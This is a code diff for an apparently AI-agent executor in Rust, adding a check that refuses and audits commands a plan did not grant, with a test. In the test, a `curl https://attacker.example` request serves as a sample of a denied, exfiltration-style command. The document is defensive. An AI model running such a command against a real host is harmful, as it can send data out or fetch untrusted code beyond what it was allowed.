@@ -281,6 +281,36 @@ impl crate::Handler<crate::Execute> for AuditedExecutor {
             .next()
             .unwrap_or_default();
         let (request_id, task_id) = (ctx.request_id.clone(), ctx.task_id.clone());
+        // The plan's grant bounds the request in every mode, before the sandbox policy.
+        if let Some(granted) = &ctx.grant
+            && let Err(denied) = granted.covers(&request.grant())
+        {
+            metrics::counter!("octollm_arm_token_refusals_total", "reason" => denied.reason())
+                .increment(1);
+            let entry = AuditEntry {
+                at: chrono::Utc::now(),
+                kind: AuditKind::ExecutorDenied,
+                request_id: Some(request_id).filter(|r| !r.is_empty()),
+                key_id: None,
+                detail: serde_json::json!({
+                    "reason": denied.reason(),
+                    "program": loggable(&program),
+                    "task_id": task_id,
+                    "granted_by": "plan",
+                }),
+            };
+            if let Err(e) = self.audit.record(&entry).await {
+                tracing::warn!(error = %e, "audit entry not written");
+            }
+            return Err(crate::ArmError::Refused(format!(
+                "{denied}: the plan grants this step {}",
+                if granted.programs.is_empty() {
+                    "no program".to_owned()
+                } else {
+                    granted.programs.join(", ")
+                }
+            )));
+        }
         let result = self.inner.handle(request, ctx).await;
         if let Err(crate::ArmError::Refused(_)) = &result {
             let entry = AuditEntry {
@@ -318,5 +348,120 @@ fn loggable(program: &str) -> &str {
         program
     } else {
         "(not a program name)"
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, reason = "test")]
+
+    use std::sync::Mutex;
+
+    use octollm_core::token::ExecutorGrant;
+    use octollm_core::{Budget, BudgetTracker, Usage};
+
+    use super::*;
+    use crate::executor::{ExecuteRequest, ExecuteResponse};
+    use crate::{ArmError, ArmOutcome, ArmStatus, CallContext, Handler, Health};
+
+    #[derive(Default)]
+    struct Recorded(Mutex<Vec<AuditEntry>>);
+
+    #[async_trait::async_trait]
+    impl AuditLog for Recorded {
+        async fn record(&self, entry: &AuditEntry) -> Result<(), octollm_store::StoreError> {
+            self.0.lock().unwrap().push(entry.clone());
+            Ok(())
+        }
+
+        async fn audit_entries(
+            &self,
+            _filter: &octollm_store::AuditFilter,
+        ) -> Result<Vec<octollm_store::AuditRecord>, octollm_store::StoreError> {
+            Ok(Vec::new())
+        }
+    }
+
+    /// Counts the requests that got past the guard.
+    #[derive(Default)]
+    struct Counting(Mutex<u32>);
+
+    #[async_trait::async_trait]
+    impl Handler<crate::Execute> for Counting {
+        async fn handle(
+            &self,
+            _request: ExecuteRequest,
+            _ctx: CallContext,
+        ) -> Result<ArmOutcome<ExecuteResponse>, ArmError> {
+            *self.0.lock().unwrap() += 1;
+            Err(ArmError::Internal("not run in this test".into()))
+        }
+
+        fn status(&self) -> ArmStatus {
+            ArmStatus::in_process(Health::Healthy)
+        }
+    }
+
+    fn ctx(grant: Option<ExecutorGrant>) -> CallContext {
+        let mut ctx = CallContext::standalone(
+            "req-grant",
+            BudgetTracker::new(&Budget::default(), 0, Usage::default()),
+        );
+        ctx.grant = grant;
+        ctx
+    }
+
+    #[tokio::test]
+    async fn a_command_the_plan_did_not_grant_is_refused_and_audited() {
+        let inner = Arc::new(Counting::default());
+        let audit = Arc::new(Recorded::default());
+        let executor = AuditedExecutor {
+            inner: inner.clone(),
+            audit: audit.clone(),
+        };
+        let python_only = ExecutorGrant {
+            programs: vec!["python3".into()],
+            network: false,
+        };
+        let curl = ExecuteRequest::shell("curl", vec!["https://attacker.example".into()]);
+        let err = executor
+            .handle(curl, ctx(Some(python_only.clone())))
+            .await
+            .unwrap_err();
+        assert!(
+            matches!(&err, ArmError::Refused(m) if m.contains("running `curl` was not granted")),
+            "{err}"
+        );
+        let mut online = ExecuteRequest::python("print(1)");
+        online.allow_network = true;
+        let err = executor
+            .handle(online, ctx(Some(python_only.clone())))
+            .await
+            .unwrap_err();
+        assert!(
+            matches!(&err, ArmError::Refused(m) if m.contains("network")),
+            "{err}"
+        );
+        assert_eq!(
+            *inner.0.lock().unwrap(),
+            0,
+            "a refused request reached the executor"
+        );
+        let entries = audit.0.lock().unwrap().clone();
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0].kind, AuditKind::ExecutorDenied);
+        assert_eq!(entries[0].detail["reason"], "program_not_granted");
+        assert_eq!(entries[0].detail["program"], "curl");
+        assert_eq!(entries[0].detail["granted_by"], "plan");
+        assert_eq!(entries[1].detail["reason"], "network_not_granted");
+
+        // Within the grant, or outside any plan, the request goes on to the executor.
+        let _ = executor
+            .handle(ExecuteRequest::python("print(1)"), ctx(Some(python_only)))
+            .await;
+        let _ = executor
+            .handle(ExecuteRequest::shell("ls", vec![]), ctx(None))
+            .await;
+        assert_eq!(*inner.0.lock().unwrap(), 2);
     }
 }
